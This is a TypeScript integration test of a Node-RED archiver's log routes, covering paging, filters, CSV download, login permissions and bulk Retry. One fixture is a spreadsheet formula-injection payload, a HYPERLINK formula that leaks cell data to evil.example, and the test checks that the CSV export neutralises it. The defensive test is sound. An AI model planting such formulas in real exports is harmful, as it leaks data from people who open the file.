// The sidebar's admin routes against a real Node-RED with editor logins (adminAuth): pages and totals
// of the archive log by data type, status and File Created range; the CSV download of exactly the
// filtered rows, formula injection neutralised; permissions (no login, read-only user); a bulk
// Retry of 100 Failed items that re-enter the flow at rc-retry and end Archived, with live rows on
// the editor's comms socket.
import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { LOG_CSV_COLUMNS, parseCsv } from '../../lib/csv';
import type { ArchiveItem, ItemKind } from '../../lib/items';
import { Ledger } from '../../lib/ledger';
import type { LogPage } from '../../lib/ledger/types';
import {
  editorToken,
  editorUsersSetting,
  prepareUserDir,
  removeDir,
  startNodeRed,
  type NodeRedProcess,
} from '../support/node-red-process';

const WebSocket = require('ws') as typeof import('ws');

const HOSTILE_OWNER = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const HOUR = 3_600_000;

function item(key: string, kind: ItemKind, createdAt: Date, ownerName = 'Alice Smith'): ArchiveItem {
  return {
    key,
    kind,
    accountId: '1',
    extensionNumber: '101',
    ownerName,
    from: '+16505550100',
    to: ['+16505550199'],
    createdAt: createdAt.toISOString(),
    fileName: `${key.replace(':', '-')}.json`,
    contentType: 'application/json',
    content: { json: { id: key } },
    record: { id: key },
    rc: 'rc',
  };
}

/**
 * 155 rows: 120 call recordings in October 2026, every 6 hours (100 Failed, the 20 newest Archived);
 * 30 faxes, one a day in September (10 Archived, 10 Pending, 10 Lost; one with a hostile owner);
 * 5 SMS on 1..5 November (Pending).
 */
function fillLedger(file: string) {
  const ledger = Ledger.open(file);
  try {
    const recordings = Array.from({ length: 120 }, (_, i) =>
      item(`CallRecording:${i}`, 'CallRecording', new Date(Date.UTC(2026, 9, 1) + i * 6 * HOUR)),
    );
    const faxes = Array.from({ length: 30 }, (_, j) =>
      item(`Fax:${j}`, 'Fax', new Date(Date.UTC(2026, 8, 1 + j, 9)), j === 7 ? HOSTILE_OWNER : undefined),
    );
    const sms = Array.from({ length: 5 }, (_, k) =>
      item(`SMS:${k}`, 'SMS', new Date(Date.UTC(2026, 10, 1 + k, 12))),
    );
    ledger.recordFound([...recordings, ...faxes, ...sms], 'gone-source');
    const receipt = (key: string) => ({
      provider: 'sftp',
      path: `RingCentral Archiver/${key}.json`,
      bytes: 42,
      sha256: 'a'.repeat(64),
      archivedAt: '2026-11-20T08:00:00.000Z',
    });
    for (const r of recordings) {
      if (Number(r.key.split(':')[1]) >= 100) ledger.markArchived(r.key, 'sftp', receipt(r.key));
      else ledger.markFailed(r.key, 'sftp', 'HTTP 507: the SFTP disk is full');
    }
    faxes.forEach((f, j) => {
      if (j < 10) ledger.markArchived(f.key, 'sftp', receipt(f.key));
      else if (j >= 20) ledger.markLost(f.key, 'sftp', 'the content is gone at RingCentral (404)');
    });
  } finally {
    ledger.close();
  }
}

describe('archive log routes of the sidebar', { timeout: 120_000 }, () => {
  let red: NodeRedProcess | undefined;
  let userDir: string;
  const tokens: Record<string, string> = {};

  before(async () => {
    userDir = await mkdtemp(join(tmpdir(), 'rc-archiver-log-routes-'));
    const archive = join(userDir, 'archive');
    mkdirSync(archive);
    const ledgerFile = join(userDir, 'ledger-elsewhere', 'ledger.sqlite');
    mkdirSync(join(userDir, 'ledger-elsewhere'));
    fillLedger(ledgerFile);
    prepareUserDir(
      userDir,
      [
        { id: 'tab', type: 'tab', label: 'Retry' },
        { id: 'rc', type: 'rc-config' },
        { id: 'retry', type: 'rc-retry', z: 'tab', wires: [['sink']] },
        {
          id: 'sink',
          type: 'rc-folder-sink',
          z: 'tab',
          directory: archive,
          timeZone: 'UTC',
          sidecar: false,
          wires: [[], []],
        },
      ],
      editorUsersSetting(),
    );
    red = await startNodeRed({
      userDir,
      env: {
        RC_ARCHIVER_LEDGER: ledgerFile,
        // The folder sink needs an rc-config; JSON items never make it call RingCentral.
        RC_SERVER: 'http://127.0.0.1:9',
        RC_CLIENT_ID: 'id',
        RC_CLIENT_SECRET: 'secret',
        RC_JWT: 'jwt',
      },
    });
    for (const user of ['admin', 'viewer'] as const) tokens[user] = await login(user);
  });
  after(async () => {
    await red?.kill();
    if (userDir) removeDir(userDir);
  });

  const login = (username: 'admin' | 'viewer') => editorToken(red!.url, username);

  /** null: no login at all. */
  type User = 'admin' | 'viewer' | null;
  const auth = (user: User): Record<string, string> =>
    user ? { Authorization: `Bearer ${tokens[user]}` } : {};

  function get(path: string, user: User = 'viewer') {
    return fetch(`${red!.url}/${path}`, { headers: auth(user) });
  }

  async function page(query: string, user: User = 'viewer'): Promise<LogPage> {
    const res = await get(`rc-archiver/log?${query}`, user);
    assert.equal(res.status, 200, `GET rc-archiver/log?${query}: ${res.status}`);
    return (await res.json()) as LogPage;
  }

  function retry(body: unknown, user: User = 'admin') {
    return fetch(`${red!.url}/rc-archiver/log/retry`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', ...auth(user) },
      body: JSON.stringify(body),
    });
  }

  it('pages the log newest first with the total, in pages of 25, 50 or 100', async () => {
    const first = await page('');
    assert.equal(first.total, 155);
    assert.equal(first.pageSize, 25, 'default page size');
    assert.equal(first.rows.length, 25);
    assert.deepEqual(
      first.rows.slice(0, 6).map((r) => r.key),
      ['SMS:4', 'SMS:3', 'SMS:2', 'SMS:1', 'SMS:0', 'CallRecording:119'],
      'newest File Created first',
    );
    const last = await page('page=7&pageSize=25');
    assert.deepEqual(
      last.rows.map((r) => r.key),
      ['Fax:4', 'Fax:3', 'Fax:2', 'Fax:1', 'Fax:0'],
    );
    for (const size of [50, 100]) {
      const p = await page(`pageSize=${size}&page=2`);
      assert.equal(p.rows.length, size === 50 ? 50 : 55);
      assert.equal(p.pageSize, size);
      assert.equal(p.total, 155);
    }
    // Every row of the 155 once, across the pages of 50.
    const keys = new Set<string>();
    for (let n = 1; n <= 4; n++) for (const r of (await page(`pageSize=50&page=${n}`)).rows) keys.add(r.key);
    assert.equal(keys.size, 155);
  });

  it('filters by data type, status, File Created range and text, with the right totals', async () => {
    const fax = await page('kind=Fax&pageSize=100');
    assert.equal(fax.total, 30);
    assert.ok(fax.rows.every((r) => r.kind === 'Fax'));

    const failed = await page('status=Failed');
    assert.equal(failed.total, 100);
    assert.ok(
      failed.rows.every((r) => r.status === 'Failed' && r.lastError === 'HTTP 507: the SFTP disk is full'),
    );

    const archivedRecordings = await page('kind=CallRecording&status=Archived&pageSize=50');
    assert.equal(archivedRecordings.total, 20);
    const row = archivedRecordings.rows[0]!;
    assert.equal(row.storage, 'sftp');
    assert.equal(row.archivedAt, '2026-11-20T08:00:00.000Z');
    assert.equal(row.path, 'RingCentral Archiver/CallRecording:119.json');

    assert.equal((await page('kind=Fax&status=Lost')).total, 10);
    assert.equal((await page('status=all&kind=all')).total, 155, '"all" is no filter');

    // September holds exactly the faxes; the range is since <= File Created < until.
    assert.equal((await page('since=2026-09-01&until=2026-10-01')).total, 30);
    // The sidebar sends local midnights with their offset: the local day 30 September in +02:00
    // runs from 29 Sep 22:00 to 30 Sep 22:00 UTC, which holds only the fax of 30 Sep 09:00 UTC.
    const local = await page(
      `since=${encodeURIComponent('2026-09-30T00:00:00+02:00')}&until=${encodeURIComponent('2026-10-01T00:00:00+02:00')}`,
    );
    assert.deepEqual(
      local.rows.map((r) => r.key),
      ['Fax:29'],
    );
    // Recordings of 1 and 2 October: 8 (every 6 hours).
    assert.equal((await page('kind=CallRecording&since=2026-10-01&until=2026-10-03')).total, 8);
    assert.equal((await page('since=2026-11-01')).total, 5, 'only since');
    assert.equal((await page('until=2026-09-02')).total, 1, 'only until');

    const evil = await page('text=evil.example');
    assert.deepEqual(
      evil.rows.map((r) => r.key),
      ['Fax:7'],
    );
    assert.equal(evil.rows[0]!.owner, HOSTILE_OWNER);
  });

  it('refuses a bad filter or page size with 400 and the reason', async () => {
    const cases: Array<[string, RegExp]> = [
      ['pageSize=10', /pageSize must be one of 25, 50, 100/],
      ['pageSize=1000', /pageSize must be one of 25, 50, 100/],
      ['page=0', /page must be a whole number/],
      ['kind=Recording', /unknown data type 'Recording'.*CallRecording/],
      ['status=Done', /unknown status 'Done'.*Pending, Archived, Failed, Lost/],
      ['since=yesterday', /'since' is not a date/],
      ['until=2026-13-45', /'until' is not a date/],
      ['since=2026-10-02&until=2026-10-01', /ends before it starts/],
    ];
    for (const [query, reason] of cases) {
      const res = await get(`rc-archiver/log?${query}`);
      assert.equal(res.status, 400, query);
      const body = (await res.json()) as { error: string };
      assert.match(body.error, reason, query);
      // The CSV refuses the same filters the same way, as JSON, not as a file to save.
      if (!query.startsWith('page')) {
        const csv = await get(`rc-archiver/log.csv?${query}`);
        assert.equal(csv.status, 400, `csv ${query}`);
        assert.equal(csv.headers.get('content-disposition'), null);
        assert.match(((await csv.json()) as { error: string }).error, reason);
      }
    }
  });

  it('downloads exactly the filtered rows as CSV, with a hostile owner neutralised', async () => {
    const res = await get('rc-archiver/log.csv?kind=Fax');
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('content-type'), 'text/csv; charset=utf-8');
    assert.match(
      res.headers.get('content-disposition') ?? '',
      /^attachment; filename="rc-archive-log-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const text = await res.text();
    const [header, ...rows] = parseCsv(text);
    assert.deepEqual(header, [...LOG_CSV_COLUMNS] as string[]);
    assert.equal(rows.length, 30);
    const col = (name: string) => header!.indexOf(name);
    assert.deepEqual(
      rows.map((r) => r[col('Key')]).sort(),
      Array.from({ length: 30 }, (_, j) => `Fax:${j}`).sort(),
    );
    assert.ok(rows.every((r) => r[col('Type')] === 'Fax'));
    const hostile = rows.find((r) => r[col('Key')] === 'Fax:7')!;
    assert.equal(hostile[col('Owner')], `'${HOSTILE_OWNER}`, 'the formula is text, not a link');
    assert.ok(!text.includes(`,${HOSTILE_OWNER}`) && !text.includes(`,"${HOSTILE_OWNER}`));
    const archived = rows.find((r) => r[col('Key')] === 'Fax:0')!;
    assert.equal(archived[col('Status')], 'Archived');
    assert.equal(archived[col('File Created')], '2026-09-01T09:00:00.000Z');
    assert.equal(archived[col('File Archived')], '2026-11-20T08:00:00.000Z');
    assert.equal(archived[col('Bytes')], '42');
    assert.equal(archived[col('SHA-256')], 'a'.repeat(64));
    const lost = rows.find((r) => r[col('Key')] === 'Fax:25')!;
    assert.equal(lost[col('Status')], 'Lost');
    assert.equal(lost[col('Last Error')], 'the content is gone at RingCentral (404)');

    const failed = parseCsv(
      await (await get('rc-archiver/log.csv?status=Failed&since=2026-10-01&until=2026-10-02')).text(),
    );
    assert.equal(failed.length - 1, 4, 'four failed recordings on 1 October');
    const all = parseCsv(await (await get('rc-archiver/log.csv')).text());
    assert.equal(all.length - 1, 155);
  });

  it('refuses everything without a login, and Retry to a read-only user', async () => {
    for (const path of ['rc-archiver/log', 'rc-archiver/log.csv']) {
      assert.equal((await get(path, null)).status, 401, `${path} without login`);
      assert.equal((await get(path, 'admin')).status, 200, `${path} as admin`);
    }
    assert.equal((await retry({ keys: ['CallRecording:0'] }, null)).status, 401, 'Retry without login');
    assert.equal(
      (await retry({ keys: ['CallRecording:0'] }, 'viewer')).status,
      401,
      'Retry as read-only user',
    );
    // Nothing was retried by the refused requests.
    assert.equal((await page('status=Failed')).total, 100);
  });

  it('refuses a Retry body without 1..1000 keys', async () => {
    for (const body of [
      {},
      { keys: [] },
      { keys: 'CallRecording:0' },
      { keys: [1] },
      { keys: Array(1001).fill('k') },
    ]) {
      const res = await retry(body);
      assert.equal(res.status, 400, JSON.stringify(body).slice(0, 60));
      assert.match(((await res.json()) as { error: string }).error, /keys?/);
    }
  });

  it('retries 100 Failed items in bulk: they re-enter at rc-retry, end Archived, and editors hear of it', async () => {
    // The editor's comms socket, logged in as the read-only user, subscribed to live rows.
    const ws = new WebSocket(`${red!.url.replace('http', 'ws')}/comms`);
    const liveKeys = new Set<string>();
    await new Promise<void>((resolve, reject) => {
      ws.once('error', reject);
      ws.once('open', () => ws.send(JSON.stringify({ auth: tokens.viewer })));
      ws.on('message', (data) => {
        const msg = JSON.parse(String(data)) as
          { auth?: string } | Array<{ topic: string; data: { keys: string[] } }>;
        if (!Array.isArray(msg)) {
          if (msg.auth === 'ok') {
            ws.send(JSON.stringify({ subscribe: 'rc-archiver/log' }));
            resolve();
          } else reject(new Error(`comms auth: ${msg.auth}`));
          return;
        }
        for (const m of msg) if (m.topic === 'rc-archiver/log') for (const k of m.data.keys) liveKeys.add(k);
      });
    });
    try {
      const failedKeys = Array.from({ length: 100 }, (_, i) => `CallRecording:${i}`);
      const started = Date.now();
      const res = await retry({ keys: [...failedKeys, 'Fax:0', 'Nope:1'] });
      assert.equal(res.status, 200);
      const result = (await res.json()) as {
        retried: string[];
        refused: Array<{ key: string; reason: string }>;
      };
      assert.equal(result.retried.length, 100);
      assert.deepEqual(new Set(result.retried), new Set(failedKeys));
      assert.deepEqual(result.refused, [
        { key: 'Fax:0', reason: 'it is Archived, only Failed items are retried' },
        { key: 'Nope:1', reason: 'not in the archive log' },
      ]);

      // What the sidebar shows next: no Failed rows left, all 120 recordings Archived.
      let archived = 0;
      while (Date.now() - started < 30_000) {
        archived = (await page('kind=CallRecording&status=Archived')).total;
        if (archived === 120) break;
        await new Promise((r) => setTimeout(r, 200));
      }
      assert.equal(archived, 120, `archived after the bulk Retry:\n${red!.output().slice(-2000)}`);
      assert.equal((await page('status=Failed')).total, 0);
      const row = (await page('kind=CallRecording&status=Archived&pageSize=100&page=2')).rows.at(-1)!;
      assert.equal(row.key, 'CallRecording:0');
      assert.equal(row.storage, 'folder');

      // Live rows reached the editor's socket, coalesced into a few messages.
      const deadline = Date.now() + 5000;
      while (liveKeys.size < 100 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
      for (const key of failedKeys) assert.ok(liveKeys.has(key), `live row for ${key}`);
    } finally {
      ws.close();
    }
  });
});
